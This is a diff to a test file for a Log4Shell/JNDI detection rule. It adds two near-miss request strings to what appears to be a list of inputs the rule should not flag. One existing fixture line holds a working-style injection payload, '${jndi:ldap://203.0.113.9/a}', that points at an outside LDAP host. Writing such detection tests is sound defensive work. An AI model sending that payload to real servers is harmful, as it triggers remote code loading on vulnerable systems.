@@ -33,5 +33,7 @@ export default defineRule({
     'GET /docs/jndi-tutorial',
     'GET /search?q=jndi+lookup',
     { message: 'upstream timed out, request: "GET /?x=${jndi:ldap://203.0.113.9/a} HTTP/1.1"' },
+    'GET /docs?q={jndi:} HTTP/1.1',
+    'GET /docs?q=${jndi.host} HTTP/1.1',
   ],
 })
